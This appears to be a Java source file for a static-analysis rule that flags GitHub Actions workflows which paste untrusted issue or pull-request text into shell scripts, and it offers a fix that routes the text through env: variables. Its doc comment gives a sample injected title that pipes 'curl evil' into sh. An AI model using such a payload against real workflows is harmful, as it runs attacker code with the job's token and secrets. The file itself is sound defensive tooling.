package io.archlens.rules.gha;

import io.archlens.analysis.Category;
import io.archlens.analysis.Edit;
import io.archlens.analysis.Fix;
import io.archlens.analysis.Rule;
import io.archlens.analysis.RuleContext;
import io.archlens.analysis.RuleMeta;
import io.archlens.analysis.Severity;
import io.archlens.core.LineIndex;
import io.archlens.filekind.FileKind;
import io.archlens.syntax.gha.Job;
import io.archlens.syntax.gha.Step;
import io.archlens.syntax.gha.Workflow;
import io.archlens.syntax.yaml.YMap;
import io.archlens.syntax.yaml.YNode;
import io.archlens.syntax.yaml.YScalar;
import io.archlens.syntax.yaml.YamlEdits;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;

/**
 * {@code ${{ }}} expressions with attacker-controlled text (issue/PR titles and bodies, branch names, commit
 * messages, comments) inside {@code run:} scripts or {@code actions/github-script}: the text is pasted into
 * the script before it runs, so a title like {@code a"; curl evil | sh; "} executes. The fix moves each
 * expression into an {@code env:} variable of the step and references the variable, quoted, in the script.
 */
public final class ScriptInjection implements Rule<Workflow> {
    static final RuleMeta META = RuleMeta.of("gha/script-injection",
            "Untrusted input is expanded into a script", Severity.ERROR, Category.SECURITY,
            FileKind.GITHUB_ACTIONS).withFix();

    private static final java.util.regex.Pattern INDEX = java.util.regex.Pattern.compile("\\[[^]]*]|\\.\\*");
    private static final java.util.regex.Pattern NOT_NAME = java.util.regex.Pattern.compile("[^A-Z0-9_]");

    /** Actions whose input is code they run: (owner/repo, input). */
    static final String[][] CODE_INPUTS = {{"actions/github-script", "script"},
        {"mikefarah/yq", "cmd"}, {"amadevus/pwsh-script", "script"}, {"jannekem/run-python-script-action", "script"},
        {"azure/cli", "inlineScript"}, {"azure/powershell", "inlineScript"}};
    static final java.util.regex.Pattern ENV_REF = java.util.regex.Pattern.compile(
            "^(?:tojson\\(\\s*)?env\\.([A-Za-z_][A-Za-z0-9_]*)\\s*\\)?$", java.util.regex.Pattern.CASE_INSENSITIVE);

    /** {@code env.NAME} whose nearest definition (step, job, workflow env) holds an untrusted expression. */
    static boolean taintedEnv(Workflow w, Job j, Step s, String inner) {
        java.util.regex.Matcher m = ENV_REF.matcher(inner.strip());
        if (!m.matches()) {
            return false;
        }
        for (YNode env : new YNode[] {s.get("env"), j.get("env"), w.root() == null ? null : w.root().get("env")}) {
            if (env instanceof YMap em && em.get(m.group(1)) != null) {
                String v = em.get(m.group(1)).text();
                return v != null && Gha.untrusted(v) != null;
            }
        }
        return false;
    }

    @Override
    public RuleMeta meta() {
        return META;
    }

    @Override
    public void check(Workflow w, RuleContext ctx) {
        for (Job j : w.jobs()) {
            for (Step s : j.steps()) {
                YScalar run = s.run();
                boolean script = false;
                for (String[] sink : CODE_INPUTS) {
                    if (run == null && s.usesAction(sink[0]) && s.withNode(sink[1]) instanceof YScalar sc) {
                        run = sc;
                        script = true;
                    }
                }
                if (run == null) {
                    continue;
                }
                List<Gha.Expr> bad = new ArrayList<>();
                boolean indirect = false;
                for (Gha.Expr e : Gha.expressions(ctx.text(), run)) {
                    if (Gha.untrusted(e.inner()) != null) {
                        bad.add(e);
                    } else if (taintedEnv(w, j, s, e.inner())) {
                        bad.add(e);
                        indirect = true;
                    }
                }
                if (bad.isEmpty()) {
                    continue;
                }
                Fix fix = script || indirect ? null : fix(ctx, w, j, s, run, bad);
                for (Gha.Expr e : bad) {
                    String msg = "${{ " + e.inner() + " }} is pasted into the " + (script ? "script" : "shell script")
                            + " before it runs, and whoever opens the issue or pull request chooses its text:"
                            + " a crafted value executes commands with this job's token and secrets; pass it"
                            + " through an env: variable and use \"$VAR\"";
                    if (fix == null) {
                        ctx.report(e.range(), msg);
                    } else {
                        ctx.report(e.range(), msg, fix);
                    }
                }
            }
        }
    }

    /** The env-variable fix for one step, or null when it cannot be written safely. */
    private static Fix fix(RuleContext ctx, Workflow w, Job j, Step s, YScalar run, List<Gha.Expr> bad) {
        String text = ctx.text();
        char style = text.charAt(run.range().start());
        if (style == '"' || style == '\'' || s.map().flow()) {
            return null;
        }
        String shell = Gha.shell(w, j, s);
        if (!shell.equals("bash") && !shell.equals("pwsh")) {
            return null;
        }
        YNode envNode = s.get("env");
        if (envNode != null && !(envNode instanceof YMap em && !em.flow())) {
            return null;
        }
        YMap env = (YMap) envNode;
        Set<String> taken = new HashSet<>();
        if (env != null) {
            env.entries().forEach(en -> taken.add(en.keyText()));
        }
        Map<String, String> names = new LinkedHashMap<>();
        for (Gha.Expr e : bad) {
            if (!names.containsKey(e.inner())) {
                String n = varName(Gha.untrusted(e.inner()));
                String cand = n;
                for (int i = 2; taken.contains(cand) || names.containsValue(cand); i++) {
                    cand = n + "_" + i;
                }
                names.put(e.inner(), cand);
            }
        }
        List<Edit> edits = new ArrayList<>();
        LineIndex li = ctx.file().lines();
        int scanFrom = style == '|' || style == '>' ? -1 : run.range().start();
        for (Gha.Expr e : bad) {
            int lineStart = scanFrom >= 0 && li.lineOf(scanFrom) == li.lineOf(e.range().start()) ? scanFrom
                    : li.lineStart(li.lineOf(e.range().start()));
            char quote = quoteState(text, lineStart, e.range().start());
            String var = names.get(e.inner());
            String repl;
            if (shell.equals("pwsh")) {
                if (quote == '\'') {
                    return null;
                }
                repl = "$env:" + var;
            } else {
                repl = quote == '"' ? "${" + var + "}" : quote == '\'' ? "'\"$" + var + "\"'" : "\"$" + var + "\"";
            }
            edits.add(Edit.replace(e.range(), repl));
        }
        StringBuilder tpl = new StringBuilder();
        for (Map.Entry<String, String> n : names.entrySet()) {
            tpl.append(env == null ? "  " : "").append(n.getValue()).append(": ${{ ").append(n.getKey()).append(" }}\n");
        }
        YamlEdits ye = w.edits();
        Edit envEdit = env == null ? ye.insertEntries(s.map(), "env:\n" + tpl) : ye.insertEntries(env, tpl.toString());
        if (envEdit == null) {
            return null;
        }
        edits.add(envEdit);
        if (overlapping(edits)) {
            return null;
        }
        String title = "Move " + (names.size() == 1 ? "the expression" : names.size() + " expressions")
                + " into env: " + String.join(", ", names.values());
        // a heredoc in the script would print the added quotes literally
        boolean heredoc = run.value().contains("<<");
        return new Fix(title, edits, !heredoc);
    }

    /** True when two edits overlap (the env insertion landing inside the script would be one). */
    private static boolean overlapping(List<Edit> edits) {
        List<Edit> sorted = new ArrayList<>(edits);
        sorted.sort((a, b) -> a.range().compareTo(b.range()));
        for (int i = 1; i < sorted.size(); i++) {
            if (sorted.get(i).range().start() < sorted.get(i - 1).range().end()) {
                return true;
            }
        }
        return false;
    }

    /** The quote the shell is inside at {@code at}, scanning from {@code from} (0 when outside quotes). */
    static char quoteState(String text, int from, int at) {
        char q = 0;
        for (int i = from; i < at; i++) {
            char c = text.charAt(i);
            if (c == '\\' && q != '\'') {
                i++;
            } else if (c == '\'' && q != '"') {
                q = q == '\'' ? 0 : '\'';
            } else if (c == '"' && q != '\'') {
                q = q == '"' ? 0 : '"';
            }
        }
        return q;
    }

    /** An environment variable name for a context: github.event.pull_request.title -> PR_TITLE. */
    static String varName(String context) {
        String c = context == null ? "INPUT" : context;
        if (c.startsWith("toJSON")) {
            return "EVENT_JSON";
        }
        c = INDEX.matcher(c.replace("github.event.", "").replace("github.", "")).replaceAll("");
        c = c.replace("pull_request", "pr").replace("head_commit", "commit").replace("workflow_run", "run")
                .replace("review_comment", "comment");
        String n = String.join("_", c.split("\\."));
        return NOT_NAME.matcher(n.toUpperCase(Locale.ROOT)).replaceAll("_");
    }
}
